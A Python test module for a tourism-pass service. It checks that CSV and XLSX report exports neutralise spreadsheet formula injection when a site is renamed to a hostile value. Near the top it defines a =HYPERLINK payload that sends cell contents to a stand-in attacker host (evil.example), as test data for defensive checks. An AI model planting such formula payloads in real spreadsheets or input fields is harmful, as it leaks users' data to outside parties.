"""No export carries a live formula (issue 15, row 1): a site an OT named
`=HYPERLINK(...)` is text in both CSV dialects and a string cell in every XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl

from service.reports.exports import as_text, to_csv, to_xlsx
from tests.helpers import issue_pass, nonce, staff_headers

SITE = "musee-henri-martin"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Musée")'


def test_every_formula_start_is_written_as_text_and_numbers_stay_numbers():
    rows = [{"name": start + "1+1", "uses": -3, "share": 0.25} for start in ("=", "+", "-", "@", "\t", "\r")]
    rows.append({"name": "Musée", "uses": 4, "share": 1.0})
    for dialect, delimiter in (("rfc4180", ","), ("excel-fr", ";")):
        text = to_csv(rows, dialect).decode("utf-8-sig")
        read = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
        assert [r["name"] for r in read[:-1]] == ["'" + r["name"] for r in rows[:-1]]
        assert read[-1]["name"] == "Musée" and read[0]["uses"] == "-3"
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx({"t": rows})))
    values = list(book["t"].iter_rows(min_row=2, values_only=True))
    assert values[0] == ("=1+1", -3, 0.25) and all(isinstance(v[1], int) for v in values)
    assert as_text("plain") == "plain"


def _sheets_xml(xlsx: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


async def test_a_hostile_site_name_reaches_no_export_as_a_formula(client, conn):
    pilot, ot = await staff_headers(client, "demo-pilot"), await staff_headers(client, "demo-ot-cahors")
    issued = await issue_pass(client)
    scan = await client.post(
        "/api/v1/redemptions",
        json={"token": issued["token"], "nonce": nonce()},
        headers=await staff_headers(client, "demo-partner-musee-henri-martin"),
    )
    assert scan.status_code == 201, scan.text
    name = await conn.fetchval("SELECT name FROM sites WHERE id = $1", SITE)
    renamed = await client.patch(f"/api/v1/sites/{SITE}", json={"name": HOSTILE}, headers=ot)
    assert renamed.status_code == 200, renamed.text
    try:
        for dialect, delimiter in (("rfc4180", ","), ("excel-fr", ";")):
            answer = await client.get(
                "/api/v1/reports/uptake",
                params={"ot": "cahors", "group_by": "site", "format": "csv", "dialect": dialect},
                headers=ot,
            )
            rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=delimiter))
            cells = [cell for row in rows for cell in row]
            assert "'" + HOSTILE in cells, cells
            assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        for path, params, who in (
            ("/api/v1/reports/uptake", {"ot": "cahors", "group_by": "site", "format": "xlsx"}, ot),
            ("/api/v1/reports/breakdowns", {"format": "xlsx"}, pilot),
        ):
            answer = await client.get(path, params=params, headers=who)
            assert answer.status_code == 200, answer.text
            assert "<f>" not in _sheets_xml(answer.content)
            book = openpyxl.load_workbook(io.BytesIO(answer.content))
            texts = [c for s in book.worksheets for row in s.iter_rows(values_only=True) for c in row]
            assert HOSTILE in texts, path
    finally:
        await client.patch(f"/api/v1/sites/{SITE}", json={"name": name}, headers=ot)
